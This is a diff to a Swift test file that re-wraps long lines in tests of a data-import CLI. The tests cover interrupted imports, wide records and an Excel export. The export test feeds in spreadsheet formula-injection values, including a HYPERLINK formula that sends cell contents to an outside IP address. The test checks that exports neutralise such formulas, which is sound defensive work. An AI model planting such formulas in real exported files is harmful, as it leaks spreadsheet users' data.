@@ -49,7 +49,9 @@ extension ProcessTests {
             try #require(lines.count == 2, "\(lines)")
             #expect(lines[0].hasPrefix("hansa: interrupted; until then: "))
             #expect(lines[1] == "hansa: what was written is whole; the same command goes on from there")
-            let digits = lines[0].dropFirst("hansa: interrupted; until then: ".count).prefix { $0 != " " }.filter { $0 != "," }
+            let digits = lines[0].dropFirst("hansa: interrupted; until then: ".count).prefix { $0 != " " }.filter {
+                $0 != ","
+            }
             let written = try #require(Int(digits))
             #expect(written > 0 && written < rows)
             // Nothing is written any more, and what was is just what was told.
@@ -62,7 +64,9 @@ extension ProcessTests {
         }
 
         @Test(arguments: ["file", "pipe"])
-        func `the import of a client that was killed ends in the node, and nothing of it is left lying`(from: String) throws {
+        func `the import of a client that was killed ends in the node, and nothing of it is left lying`(from: String)
+            throws
+        {
             let cluster = try Cluster("Acme")
             let node = cluster[0]
             let rows = 100_000
@@ -120,7 +124,16 @@ extension ProcessTests {
             usleep(300_000)
             load.send(SIGINT)
             #expect(load.wait(seconds: 30) == 130)
-            #expect(try node.done("import", try cluster.folder.file("s.csv", Self.table(3)), "--kind", "need", "--key", "id").code == 0)
+            #expect(
+                try node.done(
+                    "import",
+                    try cluster.folder.file("s.csv", Self.table(3)),
+                    "--kind",
+                    "need",
+                    "--key",
+                    "id"
+                ).code == 0
+            )
         }
 
         // MARK: - What is told
@@ -189,10 +202,12 @@ extension ProcessTests {
             let cluster = try Cluster("Acme")
             let lines = (0..<200).map { row in
                 let members = (0..<300).map { column in
-                    let name = "ext/a column of row \(row) that nobody else has, and that has a long name, no. \(column)"
+                    let name =
+                        "ext/a column of row \(row) that nobody else has, and that has a long name, no. \(column)"
                     return "\"\(name)\":\(column.isMultiple(of: 3) ? "\"=text \(column)\"" : "\(column)")"
                 }
-                return "{\"id\":\"W\(row)\",\"name\":\"wide\",\"tags\":[\"a\",\"b;c\"],\(members.joined(separator: ","))}\n"
+                return
+                    "{\"id\":\"W\(row)\",\"name\":\"wide\",\"tags\":[\"a\",\"b;c\"],\(members.joined(separator: ","))}\n"
             }
             let file = try cluster.folder.file("wide.jsonl", lines.joined())
             try cluster[0].done(["import", file] + Self.load)
@@ -215,12 +230,17 @@ extension ProcessTests {
         func `an export for Excel computes nothing, and loads back to the same records`() throws {
             let cluster = try Cluster("Acme")
             let values = [
-                "=HYPERLINK(\"http://198.51.100.7/?q=\"&A1,\"terms\")", "@SUM(2+2)", "-2+3", "-7", "-7.5", "+49 30 5550123",
+                "=HYPERLINK(\"http://198.51.100.7/?q=\"&A1,\"terms\")", "@SUM(2+2)", "-2+3", "-7", "-7.5",
+                "+49 30 5550123",
                 "\t=1", "'=1", "''+1", "=\"0012\"", "a=b", "'", " =1",
             ]
             let lines = values.enumerated().map { number, value in
-                let escaped = value.replacingOccurrences(of: "\"", with: "\\\"").replacingOccurrences(of: "\t", with: "\\t")
-                return "{\"id\":\"E\(number)\",\"name\":\"\(escaped)\",\"=cmd\":\"\(escaped)\",\"tags\":[\"\(escaped)\"]}\n"
+                let escaped = value.replacingOccurrences(of: "\"", with: "\\\"").replacingOccurrences(
+                    of: "\t",
+                    with: "\\t"
+                )
+                return
+                    "{\"id\":\"E\(number)\",\"name\":\"\(escaped)\",\"=cmd\":\"\(escaped)\",\"tags\":[\"\(escaped)\"]}\n"
             }
             let file = try cluster.folder.file("formulas.jsonl", lines.joined())
             try cluster[0].done(["import", file] + Self.load)
